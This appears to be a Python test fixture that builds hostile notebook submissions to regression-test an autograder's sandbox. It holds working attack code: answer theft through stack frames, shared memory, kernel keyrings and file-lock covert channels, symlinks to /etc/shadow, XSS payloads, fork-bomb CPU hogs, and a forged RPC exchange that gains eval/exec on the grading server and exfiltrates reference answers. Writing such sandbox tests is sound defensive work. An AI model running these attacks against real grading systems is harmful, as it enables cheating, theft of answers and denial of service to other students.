"""Hostile submissions for the sandbox tests: one attacker per root cause the sandbox closes, as code a student could hand in.

Each attack is plain student code, in a TODO cell (it then runs in the grading children) or in a cell the
student added (it then runs in nbgrader's kernel for the feedback page).
"""
from __future__ import annotations

import copy

import nbformat

from grader import editions, sample_submissions

STASH_PLACES = ["/run/lock/.hostile", "/dev/shm/.hostile", "/tmp/.hostile", "/var/tmp/.hostile"]
SHM_KEY = 0x5EED

# Finds what the grading child was given: the payload dict in a caller's frame (other TODOs' reference code).
STEAL = '''
import sys as _sys
_stolen = {}
_frame = _sys._getframe()
while _frame is not None:
    _p = _frame.f_locals.get("payload")
    if isinstance(_p, dict) and "cells" in _p:
        _stolen = {gid: src for gid, src in _p["cells"]}
    _frame = _frame.f_back
'''

# Cause 1: keep the stolen reference where the next child could find it (files, SysV shm), and use it if found.
SHARE = STEAL + '''
import ctypes as _ct, json as _json, os as _os
_libc = _ct.CDLL(None, use_errno=True)
_libc.shmat.restype = _ct.c_void_p
_found = {}
for _place in %(places)r:
    try:
        _found.update(_json.load(open(_place)))
    except Exception:
        pass
_shm = _libc.shmget(%(key)d, 1 << 20, 0o1666)
if _shm >= 0:
    _addr = _libc.shmat(_shm, None, 0)
    if _addr not in (None, _ct.c_void_p(-1).value):
        _raw = _ct.string_at(_addr, 1 << 20).split(b"\\0", 1)[0]
        try:
            _found.update(_json.loads(_raw))
        except Exception:
            pass
        _blob = _json.dumps({**_found, **_stolen}).encode()[: (1 << 20) - 1] + b"\\0"
        _ct.memmove(_addr, _blob, len(_blob))
_libc.shmget(%(key)d + 1, 256 << 20, 0o1666)   # a 256 MiB segment meant to outlive the batch
for _place in %(places)r:
    try:
        with open(_place, "w") as _h:
            _json.dump({**_found, **_stolen}, _h)
    except Exception:
        pass
try:
    with open("/tmp/.hostile-big", "wb") as _h:
        _h.truncate(1 << 30)
except Exception:
    pass
if %(gid)r in _found:
    exec(_found[%(gid)r], globals())
''' % {"places": STASH_PLACES, "key": SHM_KEY, "gid": "%(gid)s"}

# Cause 3: the master in the repository, or a copy elsewhere on the machine (the test plants one under /opt).
SEARCH = '''
import glob as _glob, re as _re, lab as _lab
from pathlib import Path as _P
_candidates = [str(_P(_lab.__file__).resolve().parents[1] / "grader" / "assignments" / "02_decode_scheduling" / "master.py")]
for _pattern in ("/opt/*/grader/assignments/*/master.py", "/*/grader/assignments/*/master.py", "/*/*/grader/assignments/*/master.py",
                 "/*/*/*/grader/assignments/*/master.py"):
    _candidates += _glob.glob(_pattern)
for _candidate in _candidates:
    try:
        _text = open(_candidate).read()
    except OSError:
        continue
    for _cell in _re.findall(r'grade_id": "%(gid)s".*?\\n(.*?)(?=^# %%)', _text, _re.S | _re.M):
        exec(_cell.replace("### BEGIN SOLUTION", "").replace("### END SOLUTION", ""), globals())
'''

# Cause 4: carry the stolen reference out: forged records on every fd, an error message, a returned value.
FORGE = STEAL + '''
import json as _json, os as _os
_text = "\\n".join(_stolen.values())
for _fd in range(3, 64):
    for _record in ({"kind": "note", "text": _text}, {"kind": "cells", "errors": {"%(gid)s": _text}}, {"kind": "done"}):
        try:
            _os.write(_fd, (_json.dumps(_record) + "\\n").encode())
        except OSError:
            pass
if _stolen:
    raise RuntimeError(_text)
'''

# An attack that was found: relay the stolen reference to this submission's other TODO children and to other students through
# what namespaces do not separate: a kernel key anyone may read (in the user keyring, which outlives the child)
# and byte-range read locks on lab/__init__.py, a file every sandbox sees. Then run what came for this TODO.
RELAY = STEAL + '''
import ctypes as _ct, fcntl as _fcntl, json as _json, os as _os, struct as _st, time as _time, lab as _lab
_libc = _ct.CDLL(None, use_errno=True)
_ADD, _CTL = {"x86_64": (248, 250), "aarch64": (217, 219)}.get(_os.uname().machine, (-1, -1))
_FL, _ME, _AT = "@hhqqi4x", int("%(gid)s"[-1]), lambda slot, index: (1 << 40) + (slot << 32) + 256 * index
_blob = _json.dumps({gid: src for gid, src in _stolen.items() if gid != "%(gid)s"}).encode()  # not our own stub
_key = _libc.syscall(_ADD, b"user", b"relay-%(gid)s", _blob, _ct.c_size_t(len(_blob)), _ct.c_long(-4))
_libc.syscall(_CTL, _ct.c_long(5), _ct.c_long(_key), _ct.c_long(0x3F3F3F3F))  # KEYCTL_SETPERM: anyone may read it
_held = _os.open(_lab.__file__, _os.O_RDONLY)  # the locks last while this child lives
try:
    for _i, _b in enumerate(_blob):
        _fcntl.fcntl(_held, _fcntl.F_SETLK, _st.pack(_FL, _fcntl.F_RDLCK, 0, _AT(_ME, _i) + _b, 1, 0))
except OSError:
    pass


def _relayed():
    got = {}
    try:
        for line in open("/proc/keys"):
            if " relay-" in line:
                buf = _ct.create_string_buffer(1 << 16)
                n = _libc.syscall(_CTL, _ct.c_long(11), _ct.c_long(int(line.split()[0], 16)), buf, _ct.c_long(1 << 16))
                got.update(_json.loads(buf.raw[:n]) if n > 0 else {})
    except (OSError, ValueError):
        pass
    fd = _os.open(_lab.__file__, _os.O_RDONLY)
    for slot in set(range(1, 10)) - {_ME}:
        data = bytearray()
        try:
            while True:
                answer = _fcntl.fcntl(fd, _fcntl.F_GETLK, _st.pack(_FL, _fcntl.F_WRLCK, 0, _AT(slot, len(data)), 256, 0))
                kind, _, start = _st.unpack(_FL, answer)[:3]
                if kind == _fcntl.F_UNLCK:
                    break
                data.append(start - _AT(slot, len(data)))
            got.update(_json.loads(bytes(data)) if data else {})
        except (OSError, ValueError):
            pass
    _os.close(fd)
    return got


for _ in range(30):
    _got = _relayed()
    if "%(gid)s" in _got:
        exec(_got["%(gid)s"], globals())
        break
    _time.sleep(0.05)
'''

# Cause 6: cancel the CPU alarm and spin: only a limit enforced from outside ends it.
HOG = '''
import signal as _signal
_signal.setitimer(_signal.ITIMER_PROF, 0)
_signal.signal(_signal.SIGPROF, _signal.SIG_IGN)
while True:
    pass
'''

# Causes 1-2 in nbgrader's kernel: shared folders, SysV IPC, a process that outlives the run and swaps the
# executed notebook for a symlink, symlinks planted for root, writes into the repository.
KERNEL = '''
import ctypes, os, re, sys, time
from pathlib import Path
import lab
repo = Path(lab.__file__).resolve().parents[1]
for folder in ["/run/lock", "/dev/shm", "/tmp", "/var/tmp", str(repo), str(repo / "solutions"), str(repo / "lab"),
               str(repo / "grader"), str(Path.cwd().parent), "/inputs/course"]:
    try:
        Path(folder, "hostile-marker").write_text("x")
        os.symlink("/etc/shadow", Path(folder, "hostile-link"))
    except OSError:
        pass
libc = ctypes.CDLL(None)
libc.shmget(0x5EEE, 256 << 20, 0o1666)
for name in ["feedback", "autograded"]:
    try:
        os.symlink(str(repo / "solutions"), Path.cwd() / name / "hostile")
    except OSError:
        pass
SLEEPER = f"""
import time
from pathlib import Path
for _ in range(3000):  # keeps swapping files for symlinks, long after this cell
    for path in Path({str(Path.cwd())!r}).rglob("*.ipynb"):
        try:
            path.unlink()
            path.symlink_to({str(repo / "solutions" / "02_decode_scheduling.ipynb")!r})
        except OSError:
            pass
    time.sleep(0.1)
"""
import subprocess
subprocess.Popen([sys.executable, "-c", SLEEPER], start_new_session=True, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
'''

# Cause 3 in nbgrader's kernel: look for the solutions anywhere on the visible file system.
KERNEL_SEARCH = '''
import os, re
found = []
for root, dirs, files in os.walk("/"):
    if root.startswith(("/proc", "/sys", "/dev", "/usr")) or any(part in root for part in ("site-packages", "/lib/python", "/share")):
        dirs[:] = []
        continue
    for name in files:
        try:
            text = open(os.path.join(root, name), errors="ignore").read(2_000_000)
        except OSError:
            continue
        if re.search(r"### BEGIN " + r"SOLUTION(\\\\n|\\n)", text) and "_ensure_capacity" in text:  # a solved edition
            found.append(os.path.join(root, name) + ": " + text[:20000])
print("FOUND", len(found), "\\n".join(found))
'''

XSS_MARKDOWN = ('<script>document.title="pwned-md"</script>\n<img src=x onerror="document.title=\'pwned-img\'">\n'
                '<a href="javascript:alert(1)">click</a>\n<svg onload="alert(1)"><script>alert(2)</script></svg>\n'
                '<iframe src="https://example.com"></iframe><style>body{background:url(https://example.com/x)}</style>')
XSS_CODE = '''
from IPython.display import HTML, Javascript, SVG, display
display(HTML('<script>document.title="pwned-html"</script><b onmouseover="alert(3)">hover</b>'))
display(Javascript('document.title="pwned-js"'))
display(SVG('<svg xmlns="http://www.w3.org/2000/svg" onload="alert(4)"><script>alert(5)</script></svg>'))
print("x" * 40_000_000)
'''


def _stub_answers(assignment: str) -> dict[str, str]:
    release = sample_submissions.release(assignment)
    return {editions.grade_id(c): c.source for c in release.cells if editions.grade_id(c) in editions.answer_ids(release)}


def _with_cells(nb, extra: list) -> nbformat.NotebookNode:
    nb = copy.deepcopy(nb)
    for cell in extra:
        cell.pop("id", None)  # the release is nbformat 4.4, which has no cell ids
    nb.cells += extra
    return nb


def submissions(assignment: str = "02_decode_scheduling") -> dict[str, nbformat.NotebookNode]:
    """The controls (perfect, blank, under colliding ids) and one attacker per root cause."""
    reference = editions.reference_answers(assignment)
    stubs = _stub_answers(assignment)
    ids = list(stubs)
    perfect = sample_submissions.filled(assignment, reference)
    return {
        "alice_solution": perfect,
        "bob_untouched": sample_submissions.release(assignment),
        "course": perfect,                      # ids that once named the grader's own folders
        "template": sample_submissions.release(assignment),
        "mallory_shares": _with_cells(sample_submissions.filled(assignment, {gid: stubs[gid] + SHARE.replace("%(gid)s", gid) for gid in ids}),
                                      [nbformat.v4.new_code_cell(KERNEL)]),
        "oscar_searches": _with_cells(sample_submissions.filled(assignment, {gid: stubs[gid] + SEARCH.replace("%(gid)s", gid) for gid in ids}),
                                      [nbformat.v4.new_code_cell(KERNEL_SEARCH)]),
        "trudy_forges": sample_submissions.filled(assignment, {gid: stubs[gid] + FORGE.replace("%(gid)s", gid) for gid in ids}),
        "xavier_scripts": _with_cells(perfect, [nbformat.v4.new_markdown_cell(XSS_MARKDOWN), nbformat.v4.new_code_cell(XSS_CODE)]),
        "hector_hogs": sample_submissions.filled(assignment, reference | {ids[0]: HOG + reference[ids[0]]}),
        "kim_relays": sample_submissions.filled(assignment, {gid: stubs[gid] + RELAY.replace("%(gid)s", gid) for gid in ids}),
    }


# --- Attack report #4-#6 (grader/runner/bridge.py): take over the reference server, steal the other TODOs' reference ------
# The attacker's answer cells, as handed in (built here as the attacker's tools built them): each forges bridge
# messages that make the server call back with a handle to its own lambda, reads __builtins__ through it, gets eval and
# exec as handles, reads the server's payload (every other TODO's reference), then swaps payload["driver"] so that each
# rule's feedback carries a base64 piece of the stolen code.
PRELUDE = r'''
import sys as _sys, json as _json, zlib as _zlib, base64 as _b64
_EXPR = ("next(fr.f_locals['payload']['cells'] for fr, _ in __import__('traceback').walk_stack(__import__('sys')._getframe())"
         " if isinstance(fr.f_locals.get('payload'), dict) and 'cells' in fr.f_locals['payload'])")

def _rx(B, x):
    while True:
        m = B.receive()
        if m.get("x") == x:
            return m

def _handles(v, out):
    if isinstance(v, dict):
        if isinstance(v.get("h"), int) and v["h"] % 2 == 0:
            out.append(v["h"])
        for w in v.values():
            _handles(w, out)
    elif isinstance(v, list):
        for w in v:
            _handles(w, out)
    return out

def _attempt(B, target, roots, graph):
    """One top-level call that makes the server call back into us; inside it, eval on the server."""
    B.exchange += 2
    x = B.exchange
    B.send({"x": x, "op": "call", "target": target, "roots": roots, "graph": graph})
    m = _rx(B, x)
    if m["op"] != "call":
        return None                          # it answered without calling back: try another target
    hs = _handles(m, [])
    if not hs:
        B.send({"x": x, "op": "abort"})
        return None
    # 1. the builtins of a server-side function (the lambda it made for our handle), via the "m" getattr
    B.send({"x": x, "op": "call", "target": "__no_such_export__",
            "roots": [{"t": [{"m": {"r": hs[0]}, "n": "__builtins__"}]}, {"r": 100001}],
            "graph": {"100001": {"k": "dict", "s": []}}})
    m2 = _rx(B, x)
    ev = None
    for spec in m2.get("graph", {}).values():
        if spec.get("k") == "dict" and "v" in spec:
            for k, v in spec["v"]:
                if k == "eval" and isinstance(v, dict) and "h" in v:
                    ev = v["h"]
    if ev is None:
        B.send({"x": x, "op": "abort"})
        return None
    # 2. eval on the server: its payload, i.e. the reference answers it runs
    B.send({"x": x, "op": "call", "target": ["h", ev], "roots": [{"t": [_EXPR]}, {"r": 100003}],
            "graph": {"100003": {"k": "dict", "s": []}}})
    m3 = _rx(B, x)
    B.send({"x": x, "op": "abort"})         # unwind the server's reference call; no reply comes
    if m3.get("op") != "return":
        return None
    g = m3["graph"]
    top = g[str(m3["roots"][2]["r"])]
    return {g[str(item["r"])]["s"][0]: g[str(item["r"])]["s"][1] for item in top["v"]}

def _steal(attempts):
    B = globals().get("__bridge__")
    if B is None:
        return None
    for target, roots, graph in attempts:
        try:
            got = _attempt(B, target, roots, graph)
        except Exception as exc:
            got = None
        if got:
            return got
    return None

def _exfiltrate(stolen, pick, offset=0, width=118):
    """Replace the observation driver (its source is still in the payload, run after this cell): every
    scenario of rule r reports chunk r of base64(zlib(json(stolen[pick]))) from `offset`."""
    frame = _sys._getframe(1)
    while frame is not None and not isinstance(frame.f_locals.get("payload"), dict):
        frame = frame.f_back
    payload = frame.f_locals["payload"]
    import ast as _ast
    def _mini(src):
        try:
            tree = _ast.parse(src)
            for node in _ast.walk(tree):
                body = getattr(node, "body", None)
                if isinstance(body, list) and body and isinstance(body[0], _ast.Expr) and isinstance(getattr(body[0], "value", None), _ast.Constant) and isinstance(body[0].value.value, str):
                    body[0] = _ast.Pass()
            return _ast.unparse(tree)
        except Exception:
            return src
    blob = _b64.b64encode(_zlib.compress(_json.dumps({k: _mini(stolen.get(k) or "") for k in pick}, separators=(",", ":")).encode(), 9)).decode()
    rules = sorted({int(sc["name"].split("|")[1]) for sc in payload["scenarios"]})
    chunks = {r: blob[offset + i * width: offset + (i + 1) * width] or "END" for i, r in enumerate(rules)}
    seq = [chunks[int(sc["name"].split("|")[1])] for sc in payload["scenarios"]]
    payload["driver"] = "SEQ = %r\nN = [0]\ndef observe(namespace, ops):\n    N[0] += 1\n    return SEQ[N[0] - 1]\n" % (seq,)
    return len(blob)
'''

SEGMENTS = r'''
def _exfiltrate_segments(stolen, segments, width=118):
    """Like _exfiltrate, for segments [(ref, start, end)] of the per-reference blobs, joined by '.'."""
    import ast as _ast
    def _mini(src):
        try:
            tree = _ast.parse(src)
            for node in _ast.walk(tree):
                body = getattr(node, "body", None)
                if isinstance(body, list) and body and isinstance(body[0], _ast.Expr) and isinstance(getattr(body[0], "value", None), _ast.Constant) and isinstance(body[0].value.value, str):
                    body[0] = _ast.Pass()
            return _ast.unparse(tree)
        except Exception:
            return src
    def blob(k):
        return _b64.b64encode(_zlib.compress(_json.dumps({k: _mini(stolen.get(k) or "")}, separators=(",", ":")).encode(), 9)).decode()
    text = ".".join(blob(k)[a:b] for k, a, b in segments)
    frame = _sys._getframe(1)
    while frame is not None and not isinstance(frame.f_locals.get("payload"), dict):
        frame = frame.f_back
    payload = frame.f_locals["payload"]
    rules = sorted({int(sc["name"].split("|")[1]) for sc in payload["scenarios"]})
    chunks = {r: text[i * width: (i + 1) * width] or "END" for i, r in enumerate(rules)}
    seq = [chunks[int(sc["name"].split("|")[1])] for sc in payload["scenarios"]]
    payload["driver"] = "SEQ = %r\nN = [0]\ndef observe(namespace, ops):\n    N[0] += 1\n    return SEQ[N[0] - 1]\n" % (seq,)
'''

SERVER_EXEC = r'''
def _server_exec(attempts, code):
    """Run `code` (statements) with exec() in the reference server, and do not wait for it."""
    B = globals().get("__bridge__")
    if B is None:
        return False
    for target, roots, graph in attempts:
        B.exchange += 2
        x = B.exchange
        B.send({"x": x, "op": "call", "target": target, "roots": roots, "graph": graph})
        m = _rx(B, x)
        if m["op"] != "call":
            continue
        hs = _handles(m, [])
        B.send({"x": x, "op": "call", "target": "__no_such_export__",
                "roots": [{"t": [{"m": {"r": hs[0]}, "n": "__builtins__"}]}, {"r": 100001}],
                "graph": {"100001": {"k": "dict", "s": []}}})
        m2 = _rx(B, x)
        ex = [v["h"] for spec in m2.get("graph", {}).values() if spec.get("k") == "dict" and "v" in spec
              for k, v in spec["v"] if k == "exec" and isinstance(v, dict) and "h" in v]
        B.send({"x": x, "op": "call", "target": ["h", ex[0]], "roots": [{"t": [code]}, {"r": 100003}],
                "graph": {"100003": {"k": "dict", "s": []}}})
        return True
    return False
'''

# 02_decode_scheduling: objects whose instance fields shadow the scheduler's methods with a handle of the child's.
SIM_02 = lambda extra: {"k": "obj", "c": "__graded__:DecodeSchedulerSim", "v": {
    "policy": "fixed_priority", "free_kv_blocks": 0, "aging_interval": 4, "clock": 0,
    "queue": {"r": 3}, "timeline": {"r": 5},
    "_schedule_key": {"h": 7}, "_ensure_capacity": {"h": 7}, "_effective_priority": {"h": 7},
    "_remaining_steps": {"h": 7}, "_record_event": {"h": 7}, "cb": {"h": 9}, **extra}}
REQ_02 = lambda rid, admitted, prio: {"k": "obj", "c": "lab.decode:RequestState", "v": {
    "request_id": rid, "prompt_len": 2, "max_new_tokens": 3, "generated_len": 1 if admitted else 0,
    "phase": "decode" if admitted else "prefill", "priority": prio, "cache_hit": False, "wait_steps": 0,
    "required_blocks": 1, "admitted": admitted, "deadline_step": None, "preemptible": True,
    "status": "running" if admitted else "waiting", "preemptions": 0, "cb": {"h": 9}}}
GRAPH_02 = {"1": SIM_02({}), "3": {"k": "list", "v": [{"r": 11}, {"r": 13}]}, "5": {"k": "list", "s": []},
         "11": REQ_02(1, True, 0), "13": REQ_02(2, False, 5), "15": {"k": "dict", "s": []}}
ATTEMPTS_02 = [
    ("DecodeSchedulerSim.step", [{"t": [{"r": 1}]}, {"r": 15}], GRAPH_02),
    ("DecodeSchedulerSim._schedule_key", [{"t": [{"r": 1}, {"r": 13}]}, {"r": 15}], GRAPH_02),
    ("DecodeSchedulerSim._ensure_capacity", [{"t": [{"r": 1}, {"r": 13}]}, {"r": 15}], GRAPH_02),
]

STUBS_02 = {
"todo1": '''@add_to_class(DecodeSchedulerSim)
@todo("TODO 1")
def enqueue(self, request_id: int, prompt_len: int, max_new_tokens: int = 2, priority: int = 0,
            cache_hit: bool = False, required_blocks: int = 1, deadline_step: int | None = None,
            preemptible: bool = True) -> None:
    raise NotImplementedError()
''',
"todo2": '''@add_to_class(DecodeSchedulerSim)
@todo("TODO 2")
def _schedule_key(self, req):
    raise NotImplementedError()
''',
"todo3": '''@add_to_class(DecodeSchedulerSim)
@todo("TODO 3")
def _ensure_capacity(self, challenger):
    raise NotImplementedError()
''',
"todo4": '''@add_to_class(DecodeSchedulerSim)
@todo("TODO 4")
def step(self):
    raise NotImplementedError()
'''}


# 03_batch_scheduling: the same, on Scheduler and BlockManager.
H = {"h": 7}
CB = {"h": 9}
def seq(sid, running):
    return {"k": "obj", "c": "lab.engine.sequence:Sequence", "v": {
        "seq_id": sid, "num_prompt_tokens": 10, "max_tokens": 4, "arrival_us": 0, "priority": 0,
        "status": {"e": "lab.engine.sequence:SequenceStatus", "v": "running" if running else "waiting"},
        "num_computed_tokens": 10 if running else 0, "num_output_tokens": 1 if running else 0,
        "block_table": {"r": 41 if running else 43}, "num_preemptions": 0, "num_recomputed_tokens": 0,
        "first_scheduled_step": None, "first_token_step": None, "finish_step": None, "first_token_us": None,
        "finish_us": None, "cb": CB}}
BM = {"k": "obj", "c": "__graded__:BlockManager", "v": {
    "num_blocks": 6, "block_size": 4, "free_block_ids": {"r": 45},
    **{name: H for name in ("num_blocks_needed", "can_append", "append", "deallocate", "can_allocate", "allocate")},
    "cb": CB}}
SCHED = {"k": "obj", "c": "__graded__:Scheduler", "v": {
    "block_manager": {"r": 3}, "max_num_seqs": 4, "max_num_batched_tokens": 64, "long_prefill_token_threshold": 0,
    "policy": "fcfs", "enable_chunked_prefill": True, "waiting": {"r": 21}, "keys": {"r": 23},
    "running": {"r": 25}, "finished": {"r": 27}, "finished_ids": {"r": 29},
    **{name: H for name in ("_num_new_tokens", "_make_room", "_preempt", "_waiting_key", "waiting_order",
                            "_peek_waiting", "_pop_waiting", "_prepend_waiting", "has_unfinished", "add")},
    "cb": CB}}
BATCH = {"k": "obj", "c": "lab.engine.scheduler:ScheduledBatch", "v": {
    "token_budget": 100, "num_scheduled_tokens": {"r": 33}, "num_decode_tokens": 0, "preempted_seq_ids": {"r": 35}}}
GRAPH_03 = {"1": SCHED, "3": BM, "5": seq(5, True), "11": seq(11, False), "21": {"k": "list", "v": [{"r": 11}]},
         "23": {"k": "dict", "s": []}, "25": {"k": "list", "v": [{"r": 5}]}, "27": {"k": "list", "s": []},
         "29": {"k": "set", "v": []}, "33": {"k": "dict", "s": []}, "35": {"k": "list", "s": []},
         "41": {"k": "list", "s": [0, 1, 2]}, "43": {"k": "list", "s": []},
         "45": {"k": "deque", "s": [3, 4, 5], "n": None}, "15": {"k": "dict", "s": []}, "17": BATCH}
KW = {"r": 15}
ATTEMPTS_03 = [
    ("BlockManager.can_append", [{"t": [{"r": 3}, {"r": 11}, 4]}, KW], GRAPH_03),
    ("BlockManager.append", [{"t": [{"r": 3}, {"r": 11}, 4]}, KW], GRAPH_03),
    ("Scheduler._preempt", [{"t": [{"r": 1}, {"r": 5}, {"r": 17}]}, KW], GRAPH_03),
    ("Scheduler._make_room", [{"t": [{"r": 1}, {"r": 5}, 1, {"r": 17}]}, KW], GRAPH_03),
    ("Scheduler.schedule", [{"t": [{"r": 1}]}, KW], GRAPH_03),
]

STUBS_03 = {
"todo1": '''@add_to_class(Scheduler)
@todo("TODO 1")
def schedule(self) -> ScheduledBatch:
    raise NotImplementedError()
''',
"todo2": '''@add_to_class(BlockManager)
@todo("TODO 2")
def num_blocks_needed(self, seq, num_new_tokens):
    raise NotImplementedError()
''',
"todo3": '''@add_to_class(Scheduler)
@todo("TODO 3")
def _make_room(self, seq, num_new_tokens, batch):
    raise NotImplementedError()
''',
"todo4": '''@todo("TODO 4")
def percentile(values, q):
    raise NotImplementedError()
''',
"todo5": '''@todo("TODO 5")
def slo_key(request):
    raise NotImplementedError()
'''}


EXFIL_PLAN_02 = {"todo1": ["todo2"], "todo2": ["todo3"], "todo3": ["todo4"], "todo4": ["todo1"]}
EXFIL_PLAN_03 = {"todo1": [("todo2", 0, None), ("todo5", 0, None)], "todo3": [("todo4", 0, 944)],
                 "todo2": [("todo4", 944, None), ("todo3", 0, 549)], "todo4": [("todo3", 549, None), ("todo1", 0, 420)],
                 "todo5": [("todo1", 420, None)]}

# Attack #6: with the takeover, fork busy loops in the reference server (each in a session of its own), so that
# another student's child, graded beside it, runs out of wall time; SERVER_HOG is the attacker's file.
SERVER_HOG = '''
import os, time
for _ in range(200):
    if os.fork() == 0:
        try:
            os.setsid()   # a session of its own (a scheduling group, under autogroup), where the sandbox allows it
        except OSError:
            pass
        while True:
            pass
time.sleep(118)     # the server's main process stays: its spinners live until the 120 s wall limit
'''

# The same from the child's own side: spinners, and blank lines on the result pipe to look like progress.
CHILD_HOG = r'''
import os as _os, signal as _signal, sys as _sys, threading as _threading, time as _time
if "__bridge__" in globals():            # only inside a grading child, never in the student's own kernel
    _signal.setitimer(_signal.ITIMER_PROF, 0)
    _signal.signal(_signal.SIGPROF, _signal.SIG_IGN)
    _f = _sys._getframe()
    while _f is not None and "emit" not in _f.f_locals:
        _f = _f.f_back
    _fd = _f.f_locals["emit"].__closure__[0].cell_contents.fileno()   # the result pipe
    for _ in range(240):
        if _os.fork() == 0:
            try:
                _os.setsid()   # refused in the sandbox since the attack of 2026-12-05: spin in the run's session then
            except OSError:
                pass
            while True:
                pass
    def _beat():                          # a blank line: "progress" for the watchdog, ignored by the protocol
        while True:
            _os.write(_fd, b"\n")
            _time.sleep(0.5)
    _threading.Thread(target=_beat, daemon=True).start()
    _time.sleep(112)
'''


def rce_exfil_answers(assignment: str) -> dict[str, str]:
    """The answer cells of the attacker's rce_exfil notebook (attack-subs/<assignment>/rce_exfil.ipynb)."""
    if assignment == "02_decode_scheduling":
        return {gid: STUBS_02[gid] + PRELUDE + f"\n_ATTEMPTS = {ATTEMPTS_02!r}\n"
                f"_stolen = _steal(_ATTEMPTS)\nif _stolen:\n    _exfiltrate(_stolen, {pick!r}, 0)\n"
                for gid, pick in EXFIL_PLAN_02.items()}
    return {gid: STUBS_03[gid] + PRELUDE + SEGMENTS + f"\n_ATTEMPTS = {ATTEMPTS_03!r}\n"
            f"_stolen = _steal(_ATTEMPTS)\nif _stolen:\n    _exfiltrate_segments(_stolen, {plan!r})\n"
            for gid, plan in EXFIL_PLAN_03.items()}


def server_hog_answers() -> dict[str, str]:
    """The answer cells of attack-subs/02_decode_scheduling_dos/attacker_hog.ipynb."""
    return {gid: STUBS_02[gid] + PRELUDE + SEGMENTS + SERVER_EXEC + f"\n_ATTEMPTS = {ATTEMPTS_02!r}\n_server_exec(_ATTEMPTS, {SERVER_HOG!r})\n"
            for gid in STUBS_02}


def child_hog_answers() -> dict[str, str]:
    """Spinners and blank-line heartbeats from the grading child itself (the attacker's first version of #6)."""
    return {gid: STUBS_02[gid] + CHILD_HOG for gid in STUBS_02}
